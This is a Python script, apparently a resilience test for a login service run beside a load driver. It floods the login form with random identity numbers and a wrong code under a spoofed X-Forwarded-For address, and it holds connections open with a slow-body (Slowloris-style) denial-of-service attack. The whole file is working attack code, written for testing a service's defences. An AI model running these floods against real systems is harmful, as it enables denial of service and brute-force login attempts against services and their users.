#!/usr/bin/env python3
"""attack.py BASE SECONDS OUT_JSON [LOGINS=64] [SLOW=8] - the attack of issue 28 §1, run beside the
light driver's journeys (run.sh with ATTACK=1): LOGINS threads post the login form as fast as they
can with well-formed random NIRs and a wrong code, all from one address (X-Forwarded-For
203.0.113.66, the service trusting 127.0.0.1 as its proxy), and SLOW connections each send a
form's headers announcing 2 MB, then one byte every 20 s, opening a new one whenever the service
ends theirs. Stops after SECONDS or at SIGTERM. Python's standard library only. Writes what it
got to OUT_JSON."""
import http.client, json, random, re, signal, socket, sys, threading, time, urllib.parse
from collections import Counter

base, seconds, out = sys.argv[1], float(sys.argv[2]), sys.argv[3]
logins = int(sys.argv[4]) if len(sys.argv) > 4 else 64
slow = int(sys.argv[5]) if len(sys.argv) > 5 else 8
url = urllib.parse.urlparse(base)
host, port = url.hostname, url.port or 80
end = time.monotonic() + seconds
started = time.monotonic()


def stop(*_):
    global end
    end = time.monotonic()


signal.signal(signal.SIGTERM, stop)
lock = threading.Lock()
statuses, slow_ended, slow_opened = Counter(), Counter(), [0]
HIDDEN = re.compile(r'<input type="hidden" name="([^"]+)"[^>]*value="([^"]*)"')


def random_nir():
    digits = "1%02d%02d75%03d%03d" % (random.randint(30, 99), random.randint(1, 12), random.randint(1, 999), random.randint(1, 999))
    return digits + "%02d" % (97 - int(digits) % 97)


def login_flood():
    headers = {"X-Forwarded-For": "203.0.113.66"}
    while time.monotonic() < end:
        try:
            c = http.client.HTTPConnection(host, port, timeout=60)
            c.request("GET", "/index.xhtml", headers=headers)
            r = c.getresponse()
            page = r.read().decode("utf-8", "replace")
            cookie = "; ".join(v.split(";")[0] for k, v in r.getheaders() if k.lower() == "set-cookie")
            form = {"connexion": "connexion", "connexion:nir": random_nir(), "connexion:code": "Mauvais*code_1",
                    "connexion:connecter": "x"}
            form.update({k: v for k, v in HIDDEN.findall(page) if k != "reponse"})
            c.request("POST", "/index.xhtml", body=urllib.parse.urlencode(form),
                      headers=dict(headers, **{"Content-Type": "application/x-www-form-urlencoded", "Cookie": cookie}))
            r = c.getresponse()
            r.read()
            with lock:
                statuses[r.status] += 1
            c.close()
        except Exception as e:  # noqa: BLE001 (counted, the flood goes on)
            with lock:
                statuses[type(e).__name__] += 1


def slow_body():
    while time.monotonic() < end:
        s = socket.create_connection((host, port), timeout=60)
        with lock:
            slow_opened[0] += 1
        s.sendall(("POST /index.xhtml HTTP/1.1\r\nHost: %s:%d\r\nX-Forwarded-For: 203.0.113.67\r\n"
                   "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 2000000\r\n\r\nconnexion=" % (host, port)).encode())
        how = "still open at the end"
        try:
            while time.monotonic() < end:
                s.settimeout(min(20, max(0.1, end - time.monotonic())))
                try:
                    answer = s.recv(64)
                    how = answer.split(b"\r\n")[0].decode() if answer else "closed"
                    break
                except socket.timeout:
                    s.sendall(b"a")
        except OSError as e:
            how = type(e).__name__
        finally:
            s.close()
        with lock:
            slow_ended[how] += 1


threads = [threading.Thread(target=login_flood, daemon=True) for _ in range(logins)]
threads += [threading.Thread(target=slow_body, daemon=True) for _ in range(slow)]
for t in threads:
    t.start()
while time.monotonic() < end:
    time.sleep(0.5)
for t in threads:
    t.join(timeout=30)
json.dump({"seconds": round(time.monotonic() - started), "login_posts": dict(statuses), "slow_bodies_opened": slow_opened[0],
           "slow_bodies_ended": dict(slow_ended)}, open(out, "w"), indent=1)
print("attack:", json.dumps({"login_posts": dict(statuses), "slow_bodies_opened": slow_opened[0], "slow_bodies_ended": dict(slow_ended)}))
